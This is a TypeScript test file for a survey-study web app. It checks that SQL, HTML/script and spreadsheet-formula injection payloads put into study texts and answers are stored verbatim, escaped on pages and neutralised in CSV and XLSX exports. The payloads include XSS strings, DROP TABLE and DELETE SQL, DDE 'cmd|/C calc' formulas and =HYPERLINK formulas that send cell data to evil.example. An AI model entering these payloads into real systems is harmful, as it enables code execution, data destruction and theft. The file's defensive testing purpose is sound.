/**
 * Injection: SQL, HTML/script and spreadsheet-formula payloads (`=HYPERLINK(…)`, `+…`, `-…`, `@…`) in every
 * free-text field of a study definition (saved through the studio's JSON editor) and of a response (free-text
 * answers through the JSON API and the form flow):
 *
 * - stored verbatim (the definition's texts and the answers read back from the database are the same strings);
 * - rendered inert in every respondent page, every studio page (overview, design, preview, share, progress,
 *   analysis, the report) and the HTML codebook: no payload's markup survives unescaped, and the escaped text is
 *   there (rendered, not dropped);
 * - neutralised in exports: in CSV (dataset and codebook) no cell begins with = + - @ unless it is a plain
 *   number, and the neutralised payload (`'=HYPERLINK(…)`) is there; in XLSX every payload is a string cell,
 *   never a formula, and reads back verbatim.
 */

import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decodeStoredAnswers } from '../../src/core/response/answersJson.js';
import {
  baceStudyDefinition,
  createStudy,
  FormBrowser,
  form,
  type SignedIn,
  serverBackends,
  type TestApp,
  testApp,
} from './helpers.js';

/** Markup that must never reach a page unescaped. */
const ACTIVE = [
  /<script>alert/i,
  /<img src=x onerror/i,
  /<svg onload/i,
  /<iframe src=javascript/i,
  /<b>bold-section<\/b>/i,
];

/** One payload per field; each carries a marker so its rendering can be found. */
const T = {
  title: '<script>alert("title")</script> =cmd',
  description: '"><img src=x onerror=alert("description")>',
  questionText: '<script>alert("question")</script>',
  storyText: '=HYPERLINK("http://evil.example/?q="&A1,"story")',
  optionLabel: '+SUM(1,1)<svg onload=alert("option")>',
  optionLabel2: "@cmd|'/C calc'!A0",
  sectionTitle: '-1+1 <b>bold-section</b>',
  consent: '<script>alert("consent")</script> consent',
  agree: '<img src=x onerror=alert("agree")>',
  screening: '"><svg onload=alert("screening")>',
  ineligible: '<iframe src=javascript:alert("ineligible")>',
  contactName: '<script>alert("contact")</script>',
  contactHours: '=1+1',
  thankYou: '<img src=x onerror=alert("thanks")>',
  domainLabel: '<script>alert("domain")</script>',
  threshold: '=2+2 <script>alert("threshold")</script>',
};

/** Free-text answers. */
const A = {
  sql: "Robert'); DROP TABLE responses;--",
  sql2: "1' OR '1'='1'; DELETE FROM study_roles; --",
  script: '<script>alert("answer")</script>',
  eq: '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
  plus: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|'/C calc'!A0",
  tab: '\t=1+1',
};

/** A study definition navigated freely in this test (its shape is checked by the app, not here). */
// biome-ignore lint/suspicious/noExplicitAny: test code walks arbitrary JSON
type Loose = any;

function hostileDefinition(): Record<string, unknown> {
  const base = baceStudyDefinition() as Loose;
  const questions = structuredClone(base.questions) as Loose[];
  const gender = questions.find((q) => q.id === 'gender')!;
  gender.options[0].label.en = T.optionLabel;
  gender.options[1].label.en = T.optionLabel2;
  questions.push(
    { id: 'comment', type: 'text', text: { en: T.questionText }, maxLength: 500 },
    { id: 'story', type: 'longtext', text: { en: T.storyText }, maxLength: 2000 },
  );
  const instruments = structuredClone(base.instruments) as Loose[];
  instruments[0]!.domains[0].label.en = T.domainLabel;
  return {
    ...base,
    title: T.title,
    description: T.description,
    questions,
    sections: [
      {
        title: { en: T.sectionTitle },
        items: ['age', 'gender', 'training', 'specialty', 'comment', 'story'],
      },
    ],
    instruments,
    analysis: {
      ...base.analysis,
      thresholds: [
        { ...base.analysis.thresholds[0], label: T.threshold },
        ...base.analysis.thresholds.slice(1),
      ],
    },
    collection: {
      ...base.collection,
      consent: { version: 3, text: { en: T.consent, ur: 'رضامندی' }, agreeLabel: { en: T.agree } },
      eligibility: {
        ...base.collection.eligibility,
        questions: [{ ...base.collection.eligibility.questions[0], text: { en: T.screening } }],
        ineligibleMessage: { en: T.ineligible },
      },
      supportContacts: [
        { name: { en: T.contactName }, phone: '+92 51 0000000', hours: { en: T.contactHours } },
      ],
      thankYou: { en: T.thankYou },
    },
  };
}

/** No active markup of any payload in `html`. */
function expectInert(html: string, where: string): void {
  for (const re of ACTIVE) expect(re.test(html), `${where}: ${re} found unescaped`).toBe(false);
}

/** The HTML-escaped form of a payload is in the page (rendered, not dropped). Quotes may be escaped or not. */
function expectEscaped(html: string, text: string, where: string): void {
  const reEsc = (x: string) => x.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  const pattern = text
    .split(/(["'])/)
    .map((part) =>
      part === '"'
        ? '(?:&quot;|&#34;|&#x22;|")'
        : part === "'"
          ? "(?:&#39;|&#x27;|&apos;|')"
          : reEsc(part.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')),
    )
    .join('');
  expect(
    new RegExp(pattern).test(html),
    `${where}: the escaped text of ${JSON.stringify(text)} is missing`,
  ).toBe(true);
}

const isPlainNumber = (s: string) => /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?$/.test(s);

/** Fill every field of a respondent page as a person would, with free-text payloads in text fields. */
function fillPage(html: string, text: Record<string, string>): Record<string, string> {
  const fields: Record<string, string> = {};
  for (const m of html.matchAll(/<input([^>]*)>/g)) {
    const attrs = m[1]!;
    const name = /name="([^"]+)"/.exec(attrs)?.[1];
    const type = /type="([^"]+)"/.exec(attrs)?.[1] ?? 'text';
    const value = /value="([^"]*)"/.exec(attrs)?.[1];
    if (!name || name.startsWith('_') || type === 'hidden' || type === 'submit') continue;
    if ((type === 'radio' || type === 'checkbox') && value !== undefined && !(name in fields))
      fields[name] = value;
    else if (type === 'number' || /inputmode="(numeric|decimal)"/.test(attrs)) fields[name] = '25';
    else if (type === 'text') fields[name] = text[name] ?? 'plain';
  }
  for (const m of html.matchAll(/<textarea[^>]*name="([^"]+)"/g)) fields[m[1]!] = text[m[1]!] ?? 'plain';
  return fields;
}

for (const backend of serverBackends()) {
  describe(`injection (${backend.name})`, () => {
    let t: TestApp;
    let owner: SignedIn;
    let studyId: number;
    let token: string;
    const pages: { where: string; html: string }[] = [];

    beforeAll(async () => {
      t = await testApp({ backend, config: { submitRateLimitPerMinute: 100_000 } });
      const user = await t.createUser({ email: 'owner@example.org' });
      owner = await t.signIn(user.email);
      const s = await createStudy(t.store, {
        ownerId: user.id,
        definition: baceStudyDefinition(),
        status: 'draft',
        title: T.title,
      });
      studyId = s.id;
      token = s.publicToken;
    });
    afterAll(async () => {
      await t?.close();
    });

    const post = (url: string, fields: Record<string, string | readonly string[]>) => {
      const body = form({ ...fields, _csrf: owner.csrf });
      return t.app.inject({
        method: 'POST',
        url,
        headers: { ...body.headers, cookie: owner.cookie },
        payload: body.payload,
      });
    };

    it('stores every free-text field of a study definition verbatim (saved through the studio)', async () => {
      // BACE v3's terms accepted by the owner (what ticking the box under Instruments records).
      await t.store.acknowledgements.record({ studyId, instrumentId: 'bace3', userId: owner.user.id });
      const saved = await post(`/studies/${studyId}/edit/json`, {
        _form: 'json',
        definition: JSON.stringify(hostileDefinition()),
      });
      expect(
        saved.statusCode,
        (saved.body.match(/<div class="errors"[\s\S]*?<\/div>/g)?.join(' ') ?? saved.body).slice(0, 3000),
      ).toBe(303);
      const launched = await post(`/studies/${studyId}/launch`, { confirmed: '1' });
      expect(launched.statusCode, launched.body.slice(0, 2000)).toBe(303);
      const study = (await t.store.studies.byId(studyId))!;
      expect(study.status).toBe('open');
      const d = study.definition as Loose;
      expect(d.title).toBe(T.title);
      expect(d.description).toBe(T.description);
      expect(d.questions.find((q: Loose) => q.id === 'comment').text.en).toBe(T.questionText);
      expect(d.questions.find((q: Loose) => q.id === 'story').text.en).toBe(T.storyText);
      expect(d.questions.find((q: Loose) => q.id === 'gender').options.map((o: Loose) => o.label.en)).toEqual(
        [T.optionLabel, T.optionLabel2],
      );
      expect(d.sections[0].title.en).toBe(T.sectionTitle);
      expect(d.collection.consent.text.en).toBe(T.consent);
      expect(d.collection.eligibility.ineligibleMessage.en).toBe(T.ineligible);
      expect(d.collection.supportContacts[0].name.en).toBe(T.contactName);
      expect(d.collection.thankYou.en).toBe(T.thankYou);
      expect(d.instruments[0].domains[0].label.en).toBe(T.domainLabel);
      expect(d.analysis.thresholds[0].label).toBe(T.threshold);
    });

    it('stores free-text answers verbatim (JSON API and form flow), with every table intact', async () => {
      const answers = (i: number, comment: string, story: string) => {
        const a: Record<string, unknown> = {
          enrolled: 1,
          age: 20 + i,
          gender: 1 + (i % 2),
          training: 1,
          comment,
          story,
        };
        for (let k = 1; k <= 30; k++) a[`bace3_${String(k).padStart(2, '0')}`] = (k + i) % 4;
        return a;
      };
      const pairs = [
        [A.sql, A.eq],
        [A.sql2, A.plus],
        [A.script, A.minus],
        [A.at, A.tab],
        [A.eq, A.sql],
        [A.plus, A.script],
      ] as const;
      for (const [i, [comment, story]] of pairs.entries()) {
        const res = await t.app.inject({
          method: 'POST',
          url: `/api/v1/s/${token}/responses`,
          headers: {
            'content-type': 'application/json',
            'idempotency-key': `injection-${i}-${backend.name}`,
          },
          payload: JSON.stringify({
            answers: answers(i, comment, story),
            consent: { agreed: true, version: 3 },
          }),
        });
        expect(res.statusCode, res.body).toBe(201);
      }

      // The form flow, without JavaScript; every page must be inert, and each payload must be shown escaped.
      const b = new FormBrowser(t.app);
      await b.get(`/s/${token}?lang=en`);
      pages.push({ where: 'respondent: first page', html: b.html });
      expectEscaped(b.html, T.consent, 'consent page');
      await b.submit({}, { name: '_consent', value: 'agree' });
      for (let step = 0; step < 10 && b.page() !== 'review'; step++) {
        pages.push({ where: `respondent: page ${b.page()}`, html: b.html });
        expect(
          b.status,
          (b.html.match(/role="alert"[\s\S]{0,800}/g) ?? [b.html.slice(0, 500)]).join(' '),
        ).toBe(200);
        await b.submit(fillPage(b.html, { comment: A.script, story: A.eq }));
      }
      expect(b.page()).toBe('review');
      pages.push({ where: 'respondent: review', html: b.html });
      await b.submit({}, { name: '_nav', value: 'submit' });
      pages.push({ where: 'respondent: after submit', html: b.html });
      expect(b.status).toBe(200);

      // A screened-out respondent sees the ineligible message, escaped.
      const s = new FormBrowser(t.app);
      await s.get(`/s/${token}?lang=en`);
      await s.submit({}, { name: '_consent', value: 'agree' });
      await s.submit({ enrolled: '0' });
      pages.push({ where: 'respondent: ineligible', html: s.html });
      expectEscaped(s.html, T.ineligible, 'ineligible page');

      const rows = await t.store.db.selectFrom('responses').select(['answers', 'idempotency_key']).execute();
      expect(rows).toHaveLength(pairs.length + 1);
      // Raw rows, decoded from the stored form (src/core/response/answersJson.ts) as the store decodes them.
      const stored = rows.map((r) =>
        decodeStoredAnswers(typeof r.answers === 'string' ? JSON.parse(r.answers) : r.answers),
      ) as {
        comment?: { kind: string; text?: string };
        story?: { kind: string; text?: string };
      }[];
      const texts = stored.flatMap((a) => [a.comment, a.story]).map((x) => (x && 'text' in x ? x.text : x));
      for (const p of [A.sql, A.sql2, A.script, A.eq, A.plus, A.minus, A.at])
        expect(texts, `answer ${JSON.stringify(p)} not stored verbatim`).toContain(p);
      // Leading and trailing white space is trimmed from text answers (the one normalisation), so a tab in
      // front of a formula is not stored either; the export check below still sees "=1+1" neutralised.
      expect(texts).toContain(A.tab.trim());
      // The SQL payloads did nothing: the roles and every response are still there.
      expect(await t.store.roles.roleOf({ userId: owner.user.id, studyId })).toBe('owner');
    });

    it('renders every payload inert in respondent pages, studio pages and the report', async () => {
      expect(pages.length).toBeGreaterThan(4);
      for (const p of pages) expectInert(p.html, p.where);
      const studio = [
        '/',
        `/studies/${studyId}`,
        `/studies/${studyId}/edit`,
        `/studies/${studyId}/preview`,
        `/studies/${studyId}/share`,
        `/studies/${studyId}/progress`,
        `/studies/${studyId}/analysis`,
        `/studies/${studyId}/analysis?group=gender`,
        `/studies/${studyId}/analysis/report.html`,
        `/studies/${studyId}/exports`,
        `/studies/${studyId}/audit`,
      ];
      for (const url of studio) {
        const res = await t.app.inject({ method: 'GET', url, headers: { cookie: owner.cookie } });
        expect(res.statusCode, `${url}: ${res.body.slice(0, 300)}`).toBe(200);
        expectInert(res.body, url);
      }
      const overview = await t.app.inject({
        method: 'GET',
        url: `/studies/${studyId}`,
        headers: { cookie: owner.cookie },
      });
      expectEscaped(overview.body, T.title, 'overview');
      const edit = await t.app.inject({
        method: 'GET',
        url: `/studies/${studyId}/edit`,
        headers: { cookie: owner.cookie },
      });
      expectEscaped(edit.body, T.contactName, 'design page');
      const report = await t.app.inject({
        method: 'GET',
        url: `/studies/${studyId}/analysis/report.html`,
        headers: { cookie: owner.cookie },
      });
      expectEscaped(report.body, T.title, 'report');
      const codebook = await post(`/studies/${studyId}/exports`, {
        format: 'codebook',
        includeFreeText: 'on',
      });
      expect(codebook.statusCode).toBe(200);
      expectInert(codebook.body, 'codebook (HTML)');
      expectEscaped(codebook.body, T.questionText, 'codebook (HTML)');
    });

    it('neutralises formulas in CSV exports and writes only string cells in XLSX', async () => {
      for (const fields of [
        { format: 'csv', includeFreeText: 'on', labels: 'labels' },
        { format: 'csv', includeFreeText: 'on', labels: 'codes' },
        { format: 'scored', includeFreeText: 'on' },
        { format: 'codebook_csv', includeFreeText: 'on' },
      ]) {
        const res = await post(`/studies/${studyId}/exports`, fields);
        expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
        const records = parse(res.body.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
        const cells = records.flat();
        for (const c of cells)
          expect(
            /^[=+\-@\t\r]/.test(c) && !isPlainNumber(c),
            `${fields.format}: live formula cell ${JSON.stringify(c)}`,
          ).toBe(false);
        if (fields.format === 'csv') {
          for (const p of [A.eq, A.plus, A.minus, A.at, A.tab.trim()])
            expect(cells, `${JSON.stringify(p)} in ${fields.format}`).toContain(`'${p}`);
          expect(cells).toContain(A.sql);
          expect(cells).toContain(A.script);
        }
        if (fields.format === 'csv' && fields.labels === 'labels') {
          expect(cells).toContain(`'${T.optionLabel}`);
          expect(cells).toContain(`'${T.optionLabel2}`);
        }
        if (fields.format === 'codebook_csv') expect(cells.some((c) => c.includes(T.storyText))).toBe(true);
      }

      const xlsx = await post(`/studies/${studyId}/exports`, {
        format: 'xlsx',
        includeFreeText: 'on',
        labels: 'labels',
      });
      expect(xlsx.statusCode).toBe(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
      const strings: string[] = [];
      wb.eachSheet((sheet) => {
        sheet.eachRow((row) => {
          row.eachCell((cell) => {
            expect(cell.type, `${sheet.name}!${cell.address} is a formula`).not.toBe(
              ExcelJS.ValueType.Formula,
            );
            expect(cell.formula, `${sheet.name}!${cell.address}`).toBeFalsy();
            if (cell.type === ExcelJS.ValueType.String) strings.push(String(cell.value));
            if (cell.type === ExcelJS.ValueType.RichText)
              strings.push((cell.value as ExcelJS.CellRichTextValue).richText.map((r) => r.text).join(''));
          });
        });
      });
      for (const p of [A.eq, A.plus, A.minus, A.at, A.sql, A.script, T.optionLabel, T.optionLabel2])
        expect(strings, `${JSON.stringify(p)} in XLSX`).toContain(p);
    });
  });
}
